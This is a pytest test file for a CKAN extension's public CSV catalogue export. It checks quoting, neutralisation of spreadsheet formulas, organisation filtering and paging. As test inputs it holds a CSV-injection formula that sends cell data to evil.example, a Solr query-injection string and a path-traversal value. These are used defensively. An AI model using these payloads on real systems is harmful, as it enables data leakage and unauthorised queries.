"""/catalog.csv: the public catalogue in OpenDataFrance's SCDL « catalogue simplifié »
layout (catalog_csv.py), with odd data: quotes, semicolons, commas and line breaks in
titles and descriptions, cells a spreadsheet would run as formulas, datasets without
resources, organisations without SIRET, private and deleted datasets that must not appear.

The datasets are made once for the module (real PostgreSQL and Solr) and read back through
the web app with Python's csv module, as an aggregator would.
"""
from __future__ import annotations

import csv
import io

import pytest
from ckan.tests import helpers

from ckanext.datasud import catalog_csv
from tests import factories

FREQ = "http://publications.europa.eu/resource/authority/frequency/"
ODD_NOTES = 'Première ligne, avec une virgule ; un point-virgule et des "guillemets".\r\nDeuxième ligne\n\nTroisième'


@pytest.fixture(scope="module")
def catalogue(clean_module_db):
    odd_org = factories.Organization(name="ville-d-odd", title='Ville d\'Odd, "la bizarre"; et fière')
    other_org = factories.Organization(name="autre-partenaire", title="Autre partenaire")
    odd = factories.Dataset(
        name="a-jeu-bizarre", title='Jeu "bizarre"; avec, tout', notes=ODD_NOTES, owner_org=odd_org["id"],
        themes=["culture-tourisme", "economie"], tags=[{"name": "Éducation"}, {"name": "Lycées, collèges"}],
        frequency=FREQ + "ANNUAL", temporal_start="2023-01-01", temporal_end="2023-12-31",
        spatial_level="commune", spatial_code="13055", spatial_text="Marseille", license_id="odc-odbl",
        resources=[{"url": "https://exemple.fr/a.csv", "format": "CSV", "name": "Données"},
                   {"url": "https://exemple.fr/b.geojson", "format": "GeoJSON", "name": "Carte"},
                   {"url": "https://exemple.fr/c.csv", "format": "csv", "name": "Encore"},
                   {"url": "https://exemple.fr/d.pdf", "format": "PDF", "name": "Délibération",
                    "resource_type": "document", "document_kind": "deliberation"}])
    formula = factories.Dataset(
        name="b-formules", title="=HYPERLINK(\"https://evil.example/?\"&A1,\"clic\")",
        notes="+33 4 91 00 00 00", owner_org=odd_org["id"], spatial_text="-1 commune",
        tags=[{"name": "@SUM(1+1)"}], license_id="notspecified", frequency=FREQ + "NEVER")
    empty = factories.Dataset(name="c-sans-ressource", title="Sans ressource", owner_org=other_org["id"],
                              resources=[])
    private = factories.Dataset(name="d-brouillon", title="Brouillon privé", owner_org=odd_org["id"], private=True)
    deleted = factories.Dataset(name="e-supprime", title="Supprimé", owner_org=other_org["id"])
    site_user = helpers.call_action("get_site_user")["name"]
    helpers.call_action("package_delete", {"user": site_user}, id=deleted["id"])
    return {"odd": odd, "formula": formula, "empty": empty, "private": private, "deleted": deleted,
            "odd_org": odd_org, "other_org": other_org}


@pytest.fixture(scope="module")
def app(catalogue):
    """One web app for the module (CKAN's ``app`` fixture makes one per test)."""
    import ckan.plugins.toolkit as tk
    tk.config.pop("SESSION_REDIS", None)
    return helpers._get_test_app()


def read(app, url: str, delimiter: str = ",") -> tuple[object, list[dict[str, str]]]:
    response = app.get(url)
    assert response.status_code == 200, response.body[:500]
    text = response.get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(text, newline=""), delimiter=delimiter))
    return response, rows


def by_id(rows: list[dict[str, str]]) -> dict[str, dict[str, str]]:
    return {row["ID"]: row for row in rows}


def test_header_media_type_and_encoding(app, catalogue):
    response, rows = read(app, "/catalog.csv")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"].startswith('attachment; filename="')
    body = response.get_data()
    assert not body.startswith(b"\xef\xbb\xbf")  # no BOM: programs read the first column name as is
    header = body.split(b"\r\n", 1)[0].decode()
    assert header == ",".join(catalog_csv.COLUMNS)
    assert len(catalog_csv.COLUMNS) == 20 and catalog_csv.COLUMNS[0] == "COLL_NOM" and catalog_csv.COLUMNS[-1] == "URL"
    assert all(len(row) == 20 and None not in row for row in rows)  # same number of cells on every line


def test_only_published_public_datasets_in_name_order(app, catalogue):
    _, rows = read(app, "/catalog.csv")
    assert [row["ID"] for row in rows] == ["a-jeu-bizarre", "b-formules", "c-sans-ressource"]


def test_odd_text_survives_quoting(app, catalogue):
    _, rows = read(app, "/catalog.csv")
    row = by_id(rows)["a-jeu-bizarre"]
    assert row["TITRE"] == 'Jeu "bizarre"; avec, tout'
    assert row["DESCRIPTION"] == ODD_NOTES.replace("\r\n", "\n") or row["DESCRIPTION"] == ODD_NOTES
    assert row["COLL_NOM"] == row["PRODUCTEUR_NOM"] == 'Ville d\'Odd, "la bizarre"; et fière'
    assert row["COLL_SIRET"] == row["PRODUCTEUR_SIRET"] == ""  # no SIRET known: an empty cell, as the schema says
    assert row["THEME"] == "Économie et entreprises;Culture, patrimoine et tourisme" or \
        row["THEME"] == "Culture, patrimoine et tourisme;Économie et entreprises"
    assert sorted(row["MOTS_CLES"].split(";")) == ["education", "lycees, colleges"]  # lower case, no accents
    assert row["FORMAT_RESSOURCES"] == "csv;geojson"  # data files only, each format once
    assert row["NOMBRE_RESSOURCES"] == "3"  # the administrative document is not a data resource
    assert row["COUV_SPAT_MAILLE"] == "Communale" and row["COUV_SPAT_NOM"] == "Marseille"
    assert (row["COUV_TEMP_DEBUT"], row["COUV_TEMP_FIN"]) == ("2023-01-01", "2023-12-31")
    assert row["FREQ_MAJ"] == "Annuelle" and row["LICENCE"] == "Open Database License-ODBL"
    assert len(row["DATE_PUBL"]) == 10 and len(row["DATE_MAJ"]) == 10 and row["DATE_MAJ"][4] == "-"
    assert row["URL"].endswith("/dataset/a-jeu-bizarre") and row["URL"].startswith("http")


def test_formulas_are_neutralised(app, catalogue):
    _, rows = read(app, "/catalog.csv")
    row = by_id(rows)["b-formules"]
    assert row["TITRE"] == "'=HYPERLINK(\"https://evil.example/?\"&A1,\"clic\")"
    assert row["DESCRIPTION"] == "'+33 4 91 00 00 00"
    assert row["COUV_SPAT_NOM"] == "'-1 commune"
    assert row["MOTS_CLES"] == "'@sum(1+1)"
    assert row["LICENCE"] == "Spécifique ou autre" and row["FREQ_MAJ"] == "Ponctuelle"
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


def test_dataset_without_resources(app, catalogue):
    _, rows = read(app, "/catalog.csv")
    row = by_id(rows)["c-sans-ressource"]
    assert row["NOMBRE_RESSOURCES"] == "0" and row["FORMAT_RESSOURCES"] == ""
    assert row["COLL_NOM"] == "Autre partenaire"
    assert row["COUV_SPAT_MAILLE"] == "" and row["FREQ_MAJ"] == ""  # not given: empty, never invented


def test_filtered_by_organisation(app, catalogue):
    _, rows = read(app, "/catalog.csv?organization=ville-d-odd")
    assert [row["ID"] for row in rows] == ["a-jeu-bizarre", "b-formules"]
    _, rows = read(app, "/catalog.csv?organization=autre-partenaire")
    assert [row["ID"] for row in rows] == ["c-sans-ressource"]


@pytest.mark.parametrize("value", ["inconnue", "ville-d-odd\" OR *:*", "../admin", "x" * 300, "VILLE-D-ODD"])
def test_unknown_organisation_is_404(app, catalogue, value):
    response = app.get("/catalog.csv", query_string={"organization": value})
    assert response.status_code == 404
    assert "text/csv" not in response.headers["Content-Type"]


def test_excel_variant_has_a_bom_and_semicolons(app, catalogue):
    response = app.get("/catalog.csv?excel=1")
    body = response.get_data()
    assert body.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert [row["ID"] for row in rows] == ["a-jeu-bizarre", "b-formules", "c-sans-ressource"]
    assert by_id(rows)["a-jeu-bizarre"]["TITRE"] == 'Jeu "bizarre"; avec, tout'


def test_pages_follow_each_other_without_gaps_or_repeats(app, catalogue, monkeypatch):
    """Keyset paging: with pages of one dataset, every dataset is written once, in order."""
    monkeypatch.setattr(catalog_csv, "PAGE_SIZE", 1)
    _, rows = read(app, "/catalog.csv")
    assert [row["ID"] for row in rows] == ["a-jeu-bizarre", "b-formules", "c-sans-ressource"]


def test_neutralised_rule():
    assert catalog_csv.neutralised("=1+1") == "'=1+1"
    assert catalog_csv.neutralised("\t=1") == "'\t=1"
    assert catalog_csv.neutralised("Normal = texte") == "Normal = texte"
    assert catalog_csv.neutralised(None) == ""
